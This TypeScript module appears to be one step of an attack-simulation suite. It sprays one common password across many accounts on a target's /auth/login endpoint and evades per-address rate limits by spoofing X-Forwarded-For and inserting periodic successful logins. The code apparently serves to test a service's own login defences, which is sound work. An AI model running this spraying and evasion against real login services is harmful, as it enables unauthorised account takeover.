import { randomInt } from 'node:crypto';
import { attack } from '#attack';

const title = 'Try one common password for many accounts, from one address';
const env = { BCRYPT_COST: '4', TRUST_PROXY: '1' };
const password = 'Summer2026!';

export default attack('spray', { step: 3, title, env }, async ({ target, say }) => {
  const now = Date.now();
  const headers = { 'X-Forwarded-For': `198.51.100.${randomInt(256)}` };
  const own = { email: `attacker-${now}@example.com`, password: 'leeks and potatoes' };
  const victim = { email: `victim-${now}@example.com`, password };
  await target.client().post('/auth/register', { name: 'Attacker', ...own }, { headers });
  (await target.client().post('/auth/register', { name: 'Victim', ...victim })).expect(201);

  const attacker = target.client();
  const emails = Array.from({ length: 59 }, (_, index) => `user-${index}-${now}@example.com`);
  say(`Attacker: POST /auth/login with "${password}" for ${emails.length + 1} emails …`);
  const statuses = new Map<number, number>();
  for (const [index, email] of [...emails, victim.email].entries()) {
    // A success in between, to reset the counter of the address.
    if (index % 10 === 9) await attacker.post('/auth/login', own, { headers });
    const { status } = await attacker.post('/auth/login', { email, password }, { headers });
    statuses.set(status, (statuses.get(status) ?? 0) + 1);
  }
  say([...statuses].map(([status, count]) => `  ${count} × ${status}`).join('\n'));
  return statuses.has(200) ? 'succeeded' : 'blocked';
});
